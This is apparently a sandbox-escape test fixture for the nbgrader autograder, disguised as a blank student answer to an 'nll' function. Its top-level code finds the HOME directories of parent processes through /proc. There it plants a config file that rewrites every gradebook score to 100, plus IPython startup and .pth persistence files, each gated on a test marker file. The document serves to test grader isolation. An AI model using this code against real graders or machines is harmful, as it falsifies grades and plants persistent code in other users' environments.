# A blank nll. Top-level code (run only by nbgrader's kernel) plants code where the grader's own
# processes would load it later, in its own HOME and in the HOME of every process above it: a
# ~/.jupyter/nbgrader_config.py (run by nbgrader's generate_feedback and export: it gives every
# learner full marks in the gradebook), an ~/.ipython startup file (run by every later learner's
# kernel: it prints into every cell) and a user-site .pth (run by any later Python that has the
# user site on). Each leaves a HOSTILE-RAN marker in that HOME when it runs. (For the safety of the
# machines the tests run on, only a HOME holding a .hostile-target file is attacked: the test makes one.)
# expect: nll=not attempted
import os
import sys

_CONFIG = """
import os, sqlite3
open({mark!r}, "a").write("nbgrader_config.py ran\\n")
if os.path.exists("gradebook.db"):
    con = sqlite3.connect("gradebook.db")
    con.execute("UPDATE grade SET manual_score = 100")
    con.commit()
    con.close()
"""
_STARTUP = """
try:
    open({mark!r}, "a").write("ipython startup ran\\n")
except OSError:
    pass
get_ipython().events.register("post_run_cell", lambda *args: print("HOSTILE STARTUP RAN"))
"""
_PTH = "import os; open({mark!r}, 'a').write('user-site pth ran\\n')\n"


def _homes():
    homes, pid = {os.path.expanduser("~")}, os.getpid()
    for _ in range(12):
        try:
            with open(f"/proc/{pid}/stat") as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{pid}/environ", "rb") as fh:
                env = fh.read().split(b"\0")
        except (OSError, ValueError, IndexError):
            break
        homes.update(v[5:].decode() for v in env if v.startswith(b"HOME="))
    return {h for h in homes if os.path.exists(os.path.join(h, ".hostile-target"))}


def _plant():
    site = f".local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
    for home in _homes():
        mark = os.path.join(home, "HOSTILE-RAN")
        for rel, text in ((".jupyter/nbgrader_config.py", _CONFIG), (".ipython/profile_default/startup/00-x.py", _STARTUP),
                          (f"{site}/hostile.pth", _PTH)):
            try:
                path = os.path.join(home, rel)
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as fh:
                    fh.write(text.format(mark=mark))
            except OSError:
                pass


_plant()


def nll(P, words, stoi):
    raise NotImplementedError()
